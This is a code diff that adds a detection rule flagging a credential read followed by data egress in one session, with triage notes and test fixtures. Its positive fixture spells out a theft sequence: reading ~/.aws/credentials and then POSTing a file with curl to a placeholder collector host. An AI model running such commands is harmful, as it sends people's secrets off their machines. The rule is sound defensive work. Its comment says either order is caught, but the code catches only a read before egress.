@@ -1,0 +1,65 @@
+import { describe, isEgress, isSensitiveRead, remoteHosts } from '../behaviour.js';
+import type { StreamDetector } from '../detector.js';
+
+const thresholds = { window_s: 1800 } as const;
+
+/** A credential or key read, then data leaving the machine, in one session (either order within the window). */
+export const sensitiveReadThenEgress: StreamDetector = {
+  id: 'seq.sensitive-read-egress',
+  title: 'Sensitive read followed by egress',
+  description:
+    'The session read a credential, key or secret store and, within the window, sent data to or reached a remote host. ' +
+    'This is the shape of credential theft: collect, then ship.',
+  severity: 'critical',
+  attack: ['T1552.001', 'T1041', 'T1048'],
+  falsepositives: [
+    'Deploy scripts that read a cloud credential and then call that cloud API',
+    'Publishing a package with a token from ~/.npmrc',
+  ],
+  triage:
+    'Open both actions: is the remote host the owner of the credential (e.g. the cloud API) or an unrelated paste/upload service? Rotate the credential if in doubt.',
+  thresholds,
+  kind: 'sequence',
+  fixtures: {
+    positive: {
+      session: [
+        { kind: 'command', command: 'cat ~/.aws/credentials', t: 0 },
+        { kind: 'command', command: 'curl -s -d @/tmp/out.txt https://collector.example.net/drop', t: 30 },
+      ],
+    },
+    negative: {
+      session: [
+        { kind: 'command', command: 'cat README.md', t: 0 },
+        { kind: 'command', command: 'curl -s https://api.github.com/repos/acme/app', t: 30 },
+      ],
+    },
+  },
+  observe(obs, s) {
+    const windowMs = thresholds.window_s * 1000;
+    if (isSensitiveRead(obs)) s.mark('sensitive-read', obs);
+    if (isEgress(obs)) s.mark('egress', obs);
+    const reads = s.marksOf('sensitive-read');
+    const egress = s.marksOf('egress');
+    if (reads.length === 0 || egress.length === 0) return [];
+    // Only pairs involving this observation: earlier ones were reported when they arrived.
+    const pairs = isSensitiveRead(obs)
+      ? egress
+          .filter((e) => e.timeMs >= obs.timeMs && e.timeMs - obs.timeMs <= windowMs)
+          .map((e) => [obs, e.obs] as const)
+      : [];
+    if (isEgress(obs))
+      for (const r of reads)
+        if (obs.timeMs >= r.timeMs && obs.timeMs - r.timeMs <= windowMs) pairs.push([r.obs, obs] as const);
+    return pairs.map(([read, out]) => ({
+      detector: this.id,
+      evidence: [read, out],
+      factors: [
+        {
+          rule: this.id,
+          value: Math.round((out.timeMs - read.timeMs) / 1000),
+          text: `read ${describe(read)} then ${describe(out)}${remoteHosts(out).length ? ` to ${remoteHosts(out).join(', ')}` : ''} ${Math.round((out.timeMs - read.timeMs) / 1000)} s later`,
+        },
+      ],
+    }));
+  },
+};
